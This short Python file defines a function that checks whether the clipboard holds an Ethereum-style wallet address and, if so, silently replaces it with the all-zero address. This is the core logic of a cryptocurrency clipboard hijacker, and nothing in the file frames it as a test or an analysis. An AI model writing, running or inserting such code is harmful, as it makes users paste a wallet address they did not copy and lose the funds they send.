import re

import pyperclip


def watch():
    text = pyperclip.paste()
    if re.match("^0x[a-fA-F0-9]{40}$", text):
        pyperclip.copy("0x" + "0" * 40)
